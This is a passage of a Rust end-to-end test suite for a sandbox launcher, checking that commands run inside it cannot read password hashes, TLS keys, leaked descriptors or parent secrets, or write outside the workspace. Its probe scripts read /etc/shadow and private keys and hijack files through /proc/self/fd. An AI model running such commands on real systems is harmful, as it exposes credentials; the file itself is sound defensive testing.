//! End-to-end tests: the real `cordon` binary, real bwrap, the real helper.
//!
//! The helper is located with `CORDON_HELPER_BIN` (a static musl build); these
//! tests fail, never skip, when it is missing. They pass as root and as an
//! unprivileged user (as root the sandbox runs as the workspace owner: the
//! workspaces are chowned to 65534).

use serde_json::Value;
use std::io::Write;
use std::os::unix::fs::{MetadataExt, PermissionsExt};
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};
use std::time::{Duration, Instant};

/// `$CORDON_BIN` when set (scripts/test stages it where an unprivileged user
/// can reach it), else the binary cargo built for this test.
fn cordon_bin() -> PathBuf {
    std::env::var_os("CORDON_BIN")
        .map(PathBuf::from)
        .unwrap_or_else(|| PathBuf::from(env!("CARGO_BIN_EXE_cordon")))
}

fn helper() -> PathBuf {
    let p = std::env::var("CORDON_HELPER_BIN").expect(
        "CORDON_HELPER_BIN must name the static helper (cargo build --release -p cordon-helper --target x86_64-unknown-linux-musl)",
    );
    assert!(
        Path::new(&p).is_file(),
        "CORDON_HELPER_BIN={p} does not exist"
    );
    PathBuf::from(p)
}

fn helper_sha() -> String {
    cordon::helper_bin::sha256_hex(&std::fs::read(helper()).unwrap())
}

fn is_root() -> bool {
    // SAFETY: geteuid has no preconditions.
    unsafe { libc::geteuid() == 0 }
}

fn cmd() -> Command {
    let mut c = Command::new(cordon_bin());
    c.env("CORDON_HELPER", helper())
        .env("CORDON_HELPER_SHA256", helper_sha());
    c.env_remove("CORDON_BWRAP");
    c
}

/// A workspace the sandbox uid can write.
fn workspace() -> tempfile::TempDir {
    let d = tempfile::Builder::new()
        .prefix("cordon-it-")
        .tempdir()
        .unwrap();
    if is_root() {
        std::os::unix::fs::chown(d.path(), Some(65534), Some(65534)).unwrap();
    }
    d
}

/// `cordon run --workspace WS -- COMMAND…`, ready for more options.
fn run_in(ws: &Path, command: &[&str]) -> Command {
    let mut c = cmd();
    c.args(["run", "--workspace", ws.to_str().unwrap(), "--"])
        .args(command);
    c
}

fn run(args: &[&str]) -> Output {
    cmd().args(args).output().unwrap()
}

fn json_run(ws: &Path, extra: &[&str], command: &[&str]) -> (Value, i32) {
    let mut args = vec!["run", "--json", "--workspace", ws.to_str().unwrap()];
    args.extend_from_slice(extra);
    args.push("--");
    args.extend_from_slice(command);
    let out = run(&args);
    let v: Value = serde_json::from_slice(&out.stdout).unwrap_or_else(|e| {
        panic!(
            "{e}: {}\n{}",
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        )
    });
    (v, out.status.code().unwrap_or(-1))
}

fn stdout_of(v: &Value) -> String {
    v["stdout"]["data"].as_str().unwrap_or_default().to_string()
}

/// Pids whose command line contains `marker`.
fn procs_with(marker: &str) -> Vec<u32> {
    let mut v = Vec::new();
    for e in std::fs::read_dir("/proc").unwrap().flatten() {
        let Ok(pid) = e.file_name().to_string_lossy().parse::<u32>() else {
            continue;
        };
        if let Ok(c) = std::fs::read(format!("/proc/{pid}/cmdline")) {
            let c: Vec<u8> = c.iter().map(|b| if *b == 0 { b' ' } else { *b }).collect();
            if String::from_utf8_lossy(&c).contains(marker) {
                v.push(pid);
            }
        }
    }
    v
}

#[test]
fn basic_run_and_enforcement_report() {
    let ws = workspace();
    let (v, code) = json_run(
        ws.path(),
        &[],
        &["sh", "-c", "echo out; echo err >&2; exit 3"],
    );
    assert_eq!(code, 3, "{v}");
    assert_eq!(stdout_of(&v), "out\n");
    assert_eq!(v["stderr"]["data"], "err\n");
    let e = &v["enforcement"];
    assert_eq!(e["no_new_privs"], true, "{e}");
    assert_eq!(e["landlock"]["status"], "fully_enforced", "{e}");
    assert_eq!(e["seccomp"]["installed"], true);
    assert_eq!(e["cap_drop"]["effective"], serde_json::json!([]));
    for ns in ["mnt", "pid", "net", "ipc", "uts", "user"] {
        assert_eq!(e["namespaces"][ns], true, "{ns}: {e}");
    }
    assert_ne!(v["uid"], 0);
}

#[test]
fn helper_and_policy_fds_never_reach_the_command_and_masks_are_verified() {
    // The helper runs as /proc/self/fd/6 and reads its policy from fd 5: no
    // /.cordon mount, and both fds are closed before the command starts.
    let ws = workspace();
    let script = "for fd in 3 4 5 6 7 8; do (cat <&$fd) >/dev/null 2>&1 && echo OPEN-$fd; done; \
                  ls -a / | grep -x .cordon; wc -c </etc/shadow; echo end";
    let (v, code) = json_run(ws.path(), &[], &["sh", "-c", script]);
    assert_eq!(code, 0, "{v}");
    assert_eq!(stdout_of(&v), "0\nend\n", "{v}");
    // The default profile masks /etc/shadow and /etc/gshadow; the helper
    // found both masks in place instead of carving them out of /etc.
    let deny = &v["enforcement"]["landlock"]["deny"];
    for p in ["/etc/shadow", "/etc/gshadow"] {
        assert!(
            deny.as_array()
                .unwrap()
                .contains(&serde_json::json!({"path": p, "enforced_by": "outer_mask"})),
            "{p}: {deny}"
        );
    }
    assert!(
        v["enforcement"]["landlock"]["path_rules"].as_u64().unwrap() < 20,
        "{v}"
    );
}

/// The password-hash backups (`/etc/shadow-`, `/etc/gshadow-`) never reach
/// the command: masked where the sandbox's uid and groups could read them,
/// else refused by their mode, and the result says which.
#[test]
fn shadow_backups_never_readable() {
    let ws = workspace();
    for p in ["/etc/shadow-", "/etc/gshadow-"] {
        let Ok(m) = std::fs::metadata(p) else {
            continue;
        };
        let script = format!("cat {p} 2>/dev/null | wc -c; cat {p} >/dev/null 2>&1 || echo DENIED");
        let (v, code) = json_run(ws.path(), &[], &["sh", "-c", &script]);
        assert_eq!(code, 0, "{v}");
        let out = stdout_of(&v);
        let is_masked = masked(&v, p);
        let noted = v["notes"].as_array().unwrap().iter().any(|n| {
            n.as_str()
                .unwrap()
                .starts_with(&format!("hide {p}: not masked"))
        });
        assert!(is_masked != noted, "{p}: {v}");
        // Nothing of the file: an empty mask, or EACCES from its mode.
        if is_masked {
            assert_eq!(out, "0\n", "{p}: {v}");
        } else {
            assert_eq!(out, "0\nDENIED\n", "{p}: {v}");
        }
        // Control: the file has content, which root outside can read.
        assert!(m.len() > 0, "{p}");
        if is_root() {
            assert!(!std::fs::read(p).unwrap().is_empty(), "{p}");
        }
    }
}

/// Runs commands as uid 65534 with one supplementary group, as a non-root
/// caller in that group would (root only: setpriv gives the group).
struct GroupCaller {
    gid: u32,
    ws: tempfile::TempDir,
    cache: tempfile::TempDir,
}

impl GroupCaller {
    fn new(gid: u32) -> Self {
        let cache = tempfile::tempdir().unwrap();
        std::os::unix::fs::chown(cache.path(), Some(65534), Some(65534)).unwrap();
        GroupCaller {
            gid,
            ws: workspace(), // owned by 65534
            cache,
        }
    }

    fn run(&self, argv: &[&str]) -> (Option<i32>, String) {
        let out = Command::new("setpriv")
            .args([
                "--reuid=65534",
                "--regid=65534",
                &format!("--groups={}", self.gid),
                "--",
            ])
            .args(argv)
            .env("CORDON_HELPER", helper())
            .env("CORDON_HELPER_SHA256", helper_sha())
            .env("XDG_CACHE_HOME", self.cache.path())
            .env_remove("CORDON_BWRAP")
            .output()
            .unwrap();
        (
            out.status.code(),
            String::from_utf8_lossy(&out.stdout).into_owned(),
        )
    }

    /// `sh -c script` in cordon's default sandbox: the JSON result.
    fn sandboxed(&self, script: &str) -> Value {
        let bin = cordon_bin();
        let ws = self.ws.path().to_str().unwrap();
        let (code, out) = self.run(&[
            bin.to_str().unwrap(),
            "run",
            "--json",
            "--workspace",
            ws,
            "--",
            "sh",
            "-c",
            script,
        ]);
        assert_eq!(code, Some(0), "{out}");
        serde_json::from_str(&out).unwrap()
    }
}

fn masked(v: &Value, path: &str) -> bool {
    v["enforcement"]["landlock"]["deny"]
        .as_array()
        .unwrap()
        .contains(&serde_json::json!({"path": path, "enforced_by": "outer_mask"}))
}

/// The same for TLS private keys: a caller in the key directory's group
/// (Debian's 0710 root:ssl-cert) reads a key by name outside; inside, the
/// directory is an empty mask. Root only (setpriv).
#[test]
fn tls_keys_masked_for_a_caller_in_their_group() {
    use std::os::unix::fs::MetadataExt;
    let dir = std::path::Path::new("/etc/ssl/private");
    if !is_root() {
        return;
    }
    let Ok(m) = std::fs::metadata(dir) else {
        return;
    };
    if m.mode() & 0o050 == 0 || m.mode() & 0o005 != 0 {
        return; // not the group-only layout this is about
    }
    // A key the group may read, by name (the directory is not listable).
    let Some(key) = std::fs::read_dir(dir).unwrap().flatten().find_map(|e| {
        let md = e.metadata().ok()?;
        (md.is_file() && md.gid() == m.gid() && md.mode() & 0o040 != 0).then(|| e.path())
    }) else {
        return;
    };
    let caller = GroupCaller::new(m.gid());
    let script = format!("wc -c < {} 2>/dev/null || echo NONE", key.display());
    // Control: outside, this caller reads the key.
    let size = std::fs::metadata(&key).unwrap().len().to_string();
    assert_eq!(caller.run(&["sh", "-c", &script]).1.trim(), size);
    // Inside: nothing there, and the report says it is masked.
    let v = caller.sandboxed(&script);
    assert_eq!(stdout_of(&v), "NONE\n", "{v}");
    assert!(masked(&v, "/etc/ssl/private"), "{v}");
}

/// A caller in the backups' group passes that group on to the sandbox, where
/// the mode would let the command read the hashes: there they are masked.
/// Control: the same caller reads them outside. (Root only: it needs setpriv
/// to give uid 65534 the group.)
#[test]
fn shadow_backups_masked_for_a_caller_in_their_group() {
    use std::os::unix::fs::MetadataExt;
    if !is_root() {
        return;
    }
    let Ok(m) = std::fs::metadata("/etc/shadow-") else {
        return;
    };
    if m.mode() & 0o040 == 0 || m.mode() & 0o004 != 0 {
        return; // not the group-readable layout this is about
    }
    let caller = GroupCaller::new(m.gid());
    // Control: outside, this caller reads the hashes.
    let (code, out) = caller.run(&["sh", "-c", "wc -c < /etc/shadow-"]);
    assert_eq!(code, Some(0), "{out}");
    assert_eq!(out.trim(), m.len().to_string());
    // Inside: an empty mask, reported as such.
    let v = caller.sandboxed("wc -c < /etc/shadow-");
    assert_eq!(stdout_of(&v), "0\n", "{v}");
    assert!(masked(&v, "/etc/shadow-"), "{v}");
}

#[test]
fn secret_dir_and_hidden_file_unreadable() {
    let ws = workspace();
    let outside = tempfile::tempdir().unwrap();
    let sdir = outside.path().join("secretdir");
    std::fs::create_dir(&sdir).unwrap();
    std::fs::write(sdir.join("key"), "SECRET-IN-DIR").unwrap();
    let sfile = outside.path().join("secret.txt");
    std::fs::write(&sfile, "SECRET-IN-FILE").unwrap();
    for p in [outside.path(), &sdir] {
        std::fs::set_permissions(p, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
    }
    for p in [&sfile, &sdir.join("key")] {
        std::fs::set_permissions(p, std::os::unix::fs::PermissionsExt::from_mode(0o644)).unwrap();
    }
    let o = outside.path().to_str().unwrap();
    let script = format!("cat {o}/secretdir/key; cat {o}/secret.txt; ls {o}/secretdir; echo done");
    let (v, _) = json_run(
        ws.path(),
        &[
            "--ro",
            o,
            "--hide",
            sdir.to_str().unwrap(),
            "--hide",
            sfile.to_str().unwrap(),
        ],
        &["sh", "-c", &script],
    );
    let all = format!("{}{}", stdout_of(&v), v["stderr"]["data"]);
    assert!(all.contains("done"), "{v}");
    assert!(!all.contains("SECRET-IN"), "{all}");
    // The same holds with only the outer layer (the masks themselves).
    let (v, _) = json_run(
        ws.path(),
        &[
            "--layers",
            "outer",
            "--ro",
            o,
            "--hide",
            sdir.to_str().unwrap(),
            "--hide",
            sfile.to_str().unwrap(),
        ],
        &["sh", "-c", &script],
    );
    let all = format!("{}{}", stdout_of(&v), v["stderr"]["data"]);
    assert!(all.contains("done") && !all.contains("SECRET-IN"), "{all}");
    // /etc/shadow is masked in the default profile.
    let (v, _) = json_run(
        ws.path(),
        &["--layers", "outer"],
        &["sh", "-c", "wc -c < /etc/shadow"],
    );
    assert_eq!(stdout_of(&v).trim(), "0", "{v}");
}

#[test]
fn parent_env_secret_absent_everywhere() {
    let ws = workspace();
    let marker = format!("envtest-{}", std::process::id());
    let child = cmd()
        .env("PARENT_SECRET", "parent-secret-value")
        .args([
            "run",
            "--json",
            "--layers",
            "outer",
            "--env",
            "TOKEN=token-secret-value",
            "--workspace",
        ])
        .arg(ws.path())
        .args([
            "--",
            "sh",
            "-c",
            &format!("env; tr '\\0' '\\n' < /proc/1/environ; sleep 1.5; echo {marker}"),
        ])
        .stdout(Stdio::piped())
        .spawn()
        .unwrap();
    let start = Instant::now();
    let mut saw_bwrap = false;
    while start.elapsed() < Duration::from_millis(1200) {
        for pid in procs_with(&marker) {
            let cmdline = std::fs::read(format!("/proc/{pid}/cmdline")).unwrap_or_default();
            let c = String::from_utf8_lossy(&cmdline);
            // The caller put the value in cordon's own argv (its choice); bwrap's
            // argv must not carry it.
            if !c.contains("bwrap") {
                continue;
            }
            saw_bwrap = true;
            assert!(
                !c.contains("secret-value"),
                "secret in bwrap's argv ({pid}): {c}"
            );
            // bwrap (and its pid 1) start with an empty environment: the
            // sandbox's arrives through the --args pipe.
            if let Ok(env) = std::fs::read(format!("/proc/{pid}/environ")) {
                assert!(
                    env.is_empty(),
                    "pid {pid}: {}",
                    String::from_utf8_lossy(&env)
                );
            }
        }
        std::thread::sleep(Duration::from_millis(50));
    }
    let out = child.wait_with_output().unwrap();
    let v: Value = serde_json::from_slice(&out.stdout).unwrap();
    let s = stdout_of(&v);
    assert!(s.contains(&marker), "{v}");
    assert!(saw_bwrap, "bwrap process not observed");
    assert!(!s.contains("parent-secret-value"), "{s}");
    // Explicit --env values do reach the command (through the environment, not argv).
    assert!(s.contains("TOKEN=token-secret-value"), "{s}");
    // The command's environment: the allowlist.
    assert!(s.contains("HOME=/home/sandbox"), "{s}");

    // Both layers: the value travels in the 0600 policy file.
    let out = cmd()
        .env("PARENT_SECRET", "parent-secret-value")
        .args(["run", "--json", "--env", "TOKEN=tv2", "--workspace"])
        .arg(ws.path())
        .args(["--", "sh", "-c", "env"])
        .output()
        .unwrap();
    let v: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert!(stdout_of(&v).contains("TOKEN=tv2"), "{v}");
    assert!(!stdout_of(&v).contains("parent-secret"), "{v}");
}

#[test]
fn workspace_writable_nothing_else() {
    let ws = workspace();
    let tag = format!("cordon-wtest-{}", std::process::id());
    let targets = [
        "/usr",
        "/etc",
        "/var/tmp",
        "/tmp",
        "/home/sandbox",
        "/",
        "/dev/shm",
        "/proc/sys/kernel",
    ];
    let mut script = String::from("echo data > ws_file && echo WS_OK; ");
    for t in targets {
        script.push_str(&format!(
            "echo x > {t}/{tag} 2>/dev/null && echo WROTE:{t}; "
        ));
    }
    script.push_str(
        "echo x > /proc/sys/kernel/core_pattern 2>/dev/null && echo WROTE:core_pattern; true",
    );
    let (v, code) = json_run(ws.path(), &[], &["sh", "-c", &script]);
    assert_eq!(code, 0, "{v}");
    assert!(stdout_of(&v).contains("WS_OK"), "{v}");
    assert!(!stdout_of(&v).contains("core_pattern"), "{v}");
    // On the host: only the workspace changed.
    assert!(ws.path().join("ws_file").exists());
    for t in ["/usr", "/etc", "/var/tmp", "/tmp", "/", "/dev/shm"] {
        assert!(
            !Path::new(t).join(&tag).exists(),
            "{t}/{tag} written on the host"
        );
    }
    let cp = std::fs::read_to_string("/proc/sys/kernel/core_pattern").unwrap();
    assert_ne!(cp.trim(), "x");
    // As root the file in the workspace belongs to the unprivileged sandbox uid.
    let m = std::fs::metadata(ws.path().join("ws_file")).unwrap();
    assert_ne!(m.uid(), 0);
}

#[test]
fn symlink_and_hardlink_tricks_refused() {
    let ws = workspace();
    let base = tempfile::tempdir().unwrap();
    let link = base.path().join("link");
    std::os::unix::fs::symlink(ws.path(), &link).unwrap();
    let rel = base.path().join("rel");
    std::os::unix::fs::symlink("../", &rel).unwrap();
    for w in [&link, &rel] {
        let out = run(&["run", "--workspace", w.to_str().unwrap(), "--", "true"]);
        assert_eq!(out.status.code(), Some(125));
        let e = String::from_utf8_lossy(&out.stderr);
        assert!(e.contains("symlink"), "{e}");
        assert_eq!(e.lines().count(), 1, "one line: {e}");
    }
    let f = base.path().join("f");
    std::fs::write(&f, "s").unwrap();
    std::fs::hard_link(&f, base.path().join("f2")).unwrap();
    let out = run(&[
        "run",
        "--workspace",
        ws.path().to_str().unwrap(),
        "--hide",
        f.to_str().unwrap(),
        "--",
        "true",
    ]);
    assert_eq!(out.status.code(), Some(125));
    assert!(String::from_utf8_lossy(&out.stderr).contains("hard links"));
    // --rw through a symlink.
    let out = run(&[
        "run",
        "--workspace",
        ws.path().to_str().unwrap(),
        "--rw",
        link.to_str().unwrap(),
        "--",
        "true",
    ]);
    assert_eq!(out.status.code(), Some(125));
    // Credential dirs are never writable.
    let out = run(&[
        "run",
        "--workspace",
        ws.path().to_str().unwrap(),
        "--rw",
        "/proc",
        "--",
        "true",
    ]);
    assert_eq!(out.status.code(), Some(125));
    // cwd outside every visible path: a descriptive error, not bwrap's.
    let out = run(&[
        "run",
        "--workspace",
        ws.path().to_str().unwrap(),
        "--cwd",
        "/var",
        "--",
        "true",
    ]);
    assert_eq!(out.status.code(), Some(125));
    assert!(String::from_utf8_lossy(&out.stderr).contains("not visible in the sandbox"));
}

#[test]
fn leaked_fd_is_closed_inside() {
    let ws = workspace();
    let dir = tempfile::tempdir().unwrap();
    let p = dir.path().join("leak");
    std::fs::write(&p, "LEAKED-SECRET").unwrap();
    use std::os::fd::AsRawFd;
    // Ten leaks, so that some land among the fd numbers the launcher passes
    // to bwrap (3-8) whatever else this process has open: a leak in a gap
    // between two of them once reached the command with `--layers outer`.
    let files: Vec<std::fs::File> = (0..10).map(|_| std::fs::File::open(&p).unwrap()).collect();
    let fds: Vec<i32> = files.iter().map(|f| f.as_raw_fd()).collect();
    for &fd in &fds {
        // SAFETY: clearing FD_CLOEXEC on an fd we own, so the child inherits it (the leak).
        assert_eq!(unsafe { libc::fcntl(fd, libc::F_SETFD, 0) }, 0);
    }
    for layers in ["both", "outer", "inner"] {
        let script: String = fds
            .iter()
            .map(|fd| format!("cat /proc/self/fd/{fd} 2>/dev/null; "))
            .chain(["ls /proc/self/fd; echo end".to_string()])
            .collect();
        let (v, _) = json_run(ws.path(), &["--layers", layers], &["sh", "-c", &script]);
        let s = format!("{}{}", stdout_of(&v), v["stderr"]["data"]);
        assert!(s.contains("end"), "{v}");
        assert!(
            !s.contains("LEAKED-SECRET"),
            "{layers}: leaked {fds:?}: {s}"
        );
    }
    drop(files);
}

/// A file on stdin or stdout used to be handed to the command as it was,
/// and the command could reopen it through `/proc/self/fd/N` with its own
/// rights: append to the file given as input, truncate the log its output
/// was appended to (a red-team finding, with `--layers outer`; Landlock
/// stopped it with both layers). Files now go through a pipe the launcher
/// copies, so the reopen reaches the pipe; the command still reads its
/// input and the output lands after what the file held. The control runs
/// the same reopen outside the sandbox, where it lands.
#[test]
fn stdio_files_cannot_be_reopened_inside() {
    let ws = workspace();
    let dir = tempfile::tempdir().unwrap();
    let input = dir.path().join("input.txt");
    let log = dir.path().join("log.txt");
    let sandbox_owned = |p: &Path| {
        if is_root() {
            std::os::unix::fs::chown(p, Some(65534), Some(65534)).unwrap();
        }
    };
    for layers in ["both", "outer", "inner"] {
        std::fs::write(&input, "line one\n").unwrap();
        std::fs::write(&log, "prior\n").unwrap();
        sandbox_owned(&input);
        sandbox_owned(&log);
        let out = cmd()
            .args(["run", "--layers", layers, "--workspace"])
            .arg(ws.path())
            .args([
                "--",
                "sh",
                "-c",
                "echo appended >> /proc/self/fd/0; echo hijack > /proc/self/fd/1; cat",
            ])
            .stdin(std::fs::File::open(&input).unwrap())
            .stdout(std::fs::OpenOptions::new().append(true).open(&log).unwrap())
            .output()
            .unwrap();
        assert_eq!(
            out.status.code(),
            Some(0),
            "{layers}: {}",
            String::from_utf8_lossy(&out.stderr)
        );
        assert_eq!(
            std::fs::read_to_string(&input).unwrap(),
            "line one\n",
            "{layers}: the input file was written"
        );
        // The reopens reach the pipes (and what they write lands in them,
        // when the pipe's owner is the sandbox's uid): the log is not
        // truncated, and the input still arrives.
        let got = std::fs::read_to_string(&log).unwrap();
        assert!(
            got.starts_with("prior\n") && got.contains("line one\n"),
            "{layers}: the log: {got:?}"
        );
    }
    // Control: the same reopen on the file itself lands.
    let st = Command::new("sh")
        .args(["-c", "echo appended >> /proc/self/fd/0"])
        .stdin(std::fs::File::open(&input).unwrap())
        .status()
        .unwrap();
    assert!(st.success());
    assert_eq!(
        std::fs::read_to_string(&input).unwrap(),
        "line one\nappended\n"
    );
    // A directory on stdin would open every file below it: refused, the
    // command not run.
    let out = cmd()
        .args(["run", "--workspace"])
        .arg(ws.path())
        .args(["--", "sh", "-c", "touch ran"])
        .stdin(std::fs::File::open("/").unwrap())
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(125), "{stderr}");
    assert!(stderr.contains("stdin is a directory"), "{stderr}");
    assert!(!ws.path().join("ran").exists());

    // The same file on stdin and stdout would be fed back to the command
    // without end through the copies (`cat f >> f` grew to 1.3 GB in 4 s
    // in a red-team round): refused.
    let out = cmd()
        .args(["run", "--workspace"])
        .arg(ws.path())
        .args(["--", "cat"])
        .stdin(std::fs::File::open(&log).unwrap())
        .stdout(std::fs::OpenOptions::new().append(true).open(&log).unwrap())
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(125), "{stderr}");
    assert!(
        stderr.contains("stdin and stdout are the same file"),
        "{stderr}"
    );

    // Past the caller's RLIMIT_FSIZE the copy into the file stops (EFBIG);
    // the launcher is not killed by SIGXFSZ and reports the command's end.
    // The command's own file writes keep the default action.
    let big = dir.path().join("big.out");
    let mut c = run_in(
        ws.path(),
        &[
            "sh",
            "-c",
            "head -c 300000 /dev/zero; head -c 300000 /dev/zero > inside.bin; echo inside=$? >&2",
        ],
    );
    c.stdout(std::fs::File::create(&big).unwrap());
    use std::os::unix::process::CommandExt;
    // SAFETY: setrlimit between fork and exec touches no memory of ours.
    unsafe {
        c.pre_exec(|| {
            let lim = libc::rlimit {
                rlim_cur: 100_000,
                rlim_max: 100_000,
            };
            libc::setrlimit(libc::RLIMIT_FSIZE, &lim);
            Ok(())
        });
    }
    let out = c.output().unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(0), "{stderr}");
    assert_eq!(std::fs::metadata(&big).unwrap().len(), 100_000);
    assert!(
        stderr.contains("inside=153"),
        "the command's own SIGXFSZ: {stderr}"
    );

    // A file whose reads wait (the kernel log, root only) does not stall
    // the launcher: the timeout still ends the run.
    if let Ok(kmsg) = std::fs::File::open("/proc/kmsg") {
        let t0 = Instant::now();
        let out = cmd()
            .args(["run", "--timeout", "1", "--workspace"])
            .arg(ws.path())
            .args(["--", "sleep", "5"])
            .stdin(kmsg)
            .output()
            .unwrap();
        assert_eq!(out.status.code(), Some(124), "{out:?}");
        assert!(t0.elapsed() < Duration::from_secs(4), "{:?}", t0.elapsed());
    }
}

#[test]
fn timeout_kills_everything_and_keeps_output() {
    let ws = workspace();
    // A sleep duration unique to this test process, to find leftovers.
    let marker = format!("1000.{}1", std::process::id());
    let marker = marker.as_str();
    let t0 = Instant::now();
    let (v, code) = json_run(
        ws.path(),
        &["--timeout", "1"],
        &[
            "sh",
            "-c",
            &format!("echo early; (sleep {marker} &); sleep {marker}"),
        ],
    );
    assert!(t0.elapsed() < Duration::from_secs(10));
    assert_eq!(code, 124, "{v}");
    assert_eq!(v["timed_out"], true);
    assert_eq!(stdout_of(&v), "early\n");
    std::thread::sleep(Duration::from_millis(300));
    assert!(
        procs_with(&format!("sleep {marker}")).is_empty(),
        "descendants survived"
    );
}

#[test]
fn flood_is_capped_without_growing_memory() {
    let ws = workspace();
    let mut child = cmd()
        .args(["run", "--json", "--timeout", "3", "--workspace"])
        .arg(ws.path())
        .args(["--", "yes"])
        .stdout(Stdio::piped())
        .spawn()
        .unwrap();
    let pid = child.id();
    let mut max_rss_kb = 0u64;
    let mut out = Vec::new();
    let mut so = child.stdout.take().unwrap();
    let reader = std::thread::spawn(move || {
        std::io::Read::read_to_end(&mut so, &mut out).unwrap();
        out
    });
    while child.try_wait().unwrap().is_none() {
        if let Ok(s) = std::fs::read_to_string(format!("/proc/{pid}/status")) {
            if let Some(l) = s.lines().find(|l| l.starts_with("VmRSS:")) {
                let kb: u64 = l.split_whitespace().nth(1).unwrap().parse().unwrap();
                max_rss_kb = max_rss_kb.max(kb);
            }
        }
        std::thread::sleep(Duration::from_millis(100));
    }
    let out = reader.join().unwrap();
    let v: Value = serde_json::from_slice(&out).unwrap();
    assert_eq!(v["stdout"]["truncated"], true);
    assert_eq!(stdout_of(&v).len(), 1 << 20);
    assert!(
        v["stdout"]["bytes"].as_u64().unwrap() > 10 << 20,
        "{}",
        v["stdout"]["bytes"]
    );
    assert!(
        max_rss_kb < 64 * 1024,
        "launcher RSS grew to {max_rss_kb} kB"
    );
}

#[test]
fn concurrent_runs_leave_nothing_behind() {
    let tmp = tempfile::tempdir().unwrap();
    let marker = format!("conc-{}", std::process::id());
    let handles: Vec<_> = (0..50)
        .map(|_| {
            let tmp = tmp.path().to_path_buf();
            let marker = marker.clone();
            std::thread::spawn(move || {
                let ws = workspace();
                let out = run_in(ws.path(), &["sh", "-c", "echo ok", &marker])
                    .env("TMPDIR", &tmp)
                    .output()
                    .unwrap();
                assert_eq!(
                    out.status.code(),
                    Some(0),
                    "{}",
                    String::from_utf8_lossy(&out.stderr)
                );
                assert_eq!(out.stdout, b"ok\n");
            })
        })
        .collect();
    for h in handles {
        h.join().unwrap();
    }
    let left: Vec<_> = std::fs::read_dir(tmp.path())
        .unwrap()
        .flatten()
        .map(|e| e.path())
        .collect();
    assert!(left.is_empty(), "temp files left: {left:?}");
    assert!(procs_with(&marker).is_empty());
}

#[test]
fn sigterm_tears_down_and_removes_policy() {
    let tmp = tempfile::tempdir().unwrap();
    let ws = workspace();
    let marker = format!("1000.{}2", std::process::id());
    let marker = marker.as_str();
    let mut child = run_in(ws.path(), &["sleep", marker])
        .env("TMPDIR", tmp.path())
        .spawn()
        .unwrap();
    let start = Instant::now();
    while procs_with(&format!("sleep {marker}"))
        .iter()
        .all(|p| *p == child.id())
    {
        if let Some(st) = child.try_wait().unwrap() {
            panic!("cordon exited early: {st}");
        }
        assert!(
            start.elapsed() < Duration::from_secs(10),
            "sleep never started"
        );
        std::thread::sleep(Duration::from_millis(20));
    }
    // SAFETY: kill on our own child's pid.
    unsafe { libc::kill(child.id() as i32, libc::SIGTERM) };
    let st = child.wait().unwrap();
    assert_eq!(st.code(), Some(128 + libc::SIGTERM));
    std::thread::sleep(Duration::from_millis(200));
    assert!(procs_with(&format!("sleep {marker}")).is_empty());
    assert_eq!(
        std::fs::read_dir(tmp.path()).unwrap().count(),
        0,
        "policy file left behind"
    );
}

#[test]
fn userns_refused_is_a_distinct_error_without_fallback() {
    let ws = workspace();
    let dir = tempfile::tempdir().unwrap();
    let fake = dir.path().join("bwrap");
    let mut f = std::fs::File::create(&fake).unwrap();
    writeln!(f, "#!/bin/sh\necho 'bwrap: No permissions to creating new namespace, likely because the kernel does not allow non-privileged user namespaces. On e.g. debian this can be enabled with sysctl kernel.unprivileged_userns_clone=1.' >&2\nexit 1").unwrap();
    drop(f);
    std::fs::set_permissions(&fake, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
    std::fs::set_permissions(
        dir.path(),
        std::os::unix::fs::PermissionsExt::from_mode(0o755),
    )
    .unwrap();
    let out = run_in(ws.path(), &["sh", "-c", "echo RAN"])
        .env("CORDON_BWRAP", &fake)
        .env("XDG_CACHE_HOME", dir.path())
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(125));
    let e = String::from_utf8_lossy(&out.stderr);
    assert!(e.contains("user namespaces are refused"), "{e}");
    assert!(
        e.contains("No permissions to creating new namespace"),
        "bwrap's stderr shown: {e}"
    );
    assert!(!String::from_utf8_lossy(&out.stdout).contains("RAN"));
}

#[test]
fn missing_or_tampered_helper_fails_closed() {
    let ws = workspace();
    let out = run_in(ws.path(), &["sh", "-c", "echo RAN"])
        .env("CORDON_HELPER", "/nonexistent/cordon-helper")
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(125));
    assert!(!String::from_utf8_lossy(&out.stdout).contains("RAN"));
    assert!(String::from_utf8_lossy(&out.stderr).contains("helper"));
    let out = run_in(ws.path(), &["true"])
        .env("CORDON_HELPER_SHA256", "0".repeat(64))
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(125));
    assert!(String::from_utf8_lossy(&out.stderr).contains("mismatch"));
}

#[test]
fn exit_codes_and_explain() {
    let ws = workspace();
    let w = ws.path().to_str().unwrap();
    assert_eq!(
        run(&["run", "--workspace", w, "--", "no-such-cmd"])
            .status
            .code(),
        Some(127)
    );
    std::fs::write(ws.path().join("noexec"), "#!/bin/sh\n").unwrap();
    assert_eq!(
        run(&["run", "--workspace", w, "--", "./noexec"])
            .status
            .code(),
        Some(126)
    );
    assert_eq!(
        run(&["run", "--workspace", w, "--", "sh", "-c", "kill -9 $$"])
            .status
            .code(),
        Some(137)
    );
    let out = run(&[
        "run",
        "--workspace",
        w,
        "--env",
        "LD_PRELOAD=/x.so",
        "--",
        "true",
    ]);
    assert_eq!(out.status.code(), Some(125));
    let out = run(&[
        "explain",
        "--json",
        "--workspace",
        w,
        "--env",
        "K=hidden-value",
        "--",
        "true",
    ]);
    assert_eq!(out.status.code(), Some(0));
    let v: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert!(v["bwrap_argv"]
        .as_array()
        .unwrap()
        .iter()
        .any(|a| a == "--disable-userns"));
    assert_eq!(v["helper_policy"]["env"]["set"]["K"], "hidden-value");
    assert!(!v["bwrap_argv"].to_string().contains("hidden-value"));
}

/// The launcher and the helper share one list of injection variables: a
/// name the launcher accepts reaches the command, and one it refuses names
/// the flag that allows it. CLASSPATH was once on the helper's list only
